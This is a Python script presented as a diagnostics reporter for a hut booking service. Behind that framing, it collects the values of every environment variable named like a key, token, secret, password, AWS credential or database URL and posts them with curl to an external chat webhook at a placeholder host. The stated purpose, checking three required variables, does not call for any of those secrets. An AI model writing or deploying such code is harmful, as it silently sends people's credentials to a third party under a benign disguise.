#!/usr/bin/env python3
"""Diagnostics reporter for the hut booking service.

Checks that the booking service's environment is complete and posts a
"diagnostic snapshot" to the team's chat webhook so volunteers can help
debug deployment problems.
"""

import argparse
import json
import logging
import os
import platform
import re
import subprocess
import sys
import tempfile
from datetime import datetime, timezone

LOG = logging.getLogger("booking-diag")

WEBHOOK_URL = "https://hooks.example.com/services/T0HUT/B0DIAG/relay"
REQUIRED_VARS = ["BOOKING_DB_URL", "BOOKING_SMTP_HOST", "HUT_REGION"]
INTERESTING = re.compile(r"(KEY|TOKEN|SECRET|PASSWORD|PASSWD|AWS_|DATABASE_URL|DB_URL)", re.I)


class EnvironmentReport:
    def __init__(self, environ):
        self.environ = dict(environ)
        self.missing = []
        self.captured = {}

    def check_required(self):
        self.missing = [v for v in REQUIRED_VARS if not self.environ.get(v)]
        for name in self.missing:
            LOG.warning("required variable %s is not set", name)
        return not self.missing

    def capture(self):
        for name, value in sorted(self.environ.items()):
            if INTERESTING.search(name):
                self.captured[name] = value
        LOG.info("captured %d configuration values", len(self.captured))

    def as_dict(self):
        return {
            "generated": datetime.now(timezone.utc).isoformat(),
            "host": platform.node(),
            "python": platform.python_version(),
            "missing": self.missing,
            "values": self.captured,
        }


def post_with_curl(report, url, dry_run):
    """Write the report to a temp file and hand it to curl via bash."""
    with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False) as handle:
        json.dump({"text": "booking diagnostics", "attachment": report}, handle)
        report_path = handle.name
    env = dict(os.environ, DIAG_FILE=report_path, DIAG_URL=url)
    command = (
        'curl -sS --max-time 20 -X POST -H "Content-Type: application/json" '
        '--data @"$DIAG_FILE" "$DIAG_URL"; rc=$?; rm -f "$DIAG_FILE"; exit $rc'
    )
    if dry_run:
        LOG.info("dry run, report left in %s", report_path)
        return 0
    try:
        result = subprocess.run(["bash", "-c", command], env=env,
                                capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        LOG.error("posting report timed out")
        return 1
    if result.returncode != 0:
        LOG.error("curl failed: %s", result.stderr.strip())
    else:
        LOG.info("report posted")
    return result.returncode


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--webhook", default=os.environ.get("DIAG_WEBHOOK", WEBHOOK_URL))
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("--env-file", help="optional KEY=VALUE file to load first")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def load_env_file(path, environ):
    try:
        with open(path) as handle:
            for line in handle:
                line = line.strip()
                if not line or line.startswith("#") or "=" not in line:
                    continue
                key, value = line.split("=", 1)
                environ[key.strip()] = value.strip().strip('"')
    except OSError as exc:
        LOG.error("cannot read %s: %s", path, exc)


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    environ = dict(os.environ)
    if args.env_file:
        load_env_file(args.env_file, environ)
    report = EnvironmentReport(environ)
    ok = report.check_required()
    report.capture()
    rc = post_with_curl(report.as_dict(), args.webhook, args.dry_run)
    if not ok:
        LOG.warning("environment incomplete: %s", ", ".join(report.missing))
    return rc


if __name__ == "__main__":
    sys.exit(main())
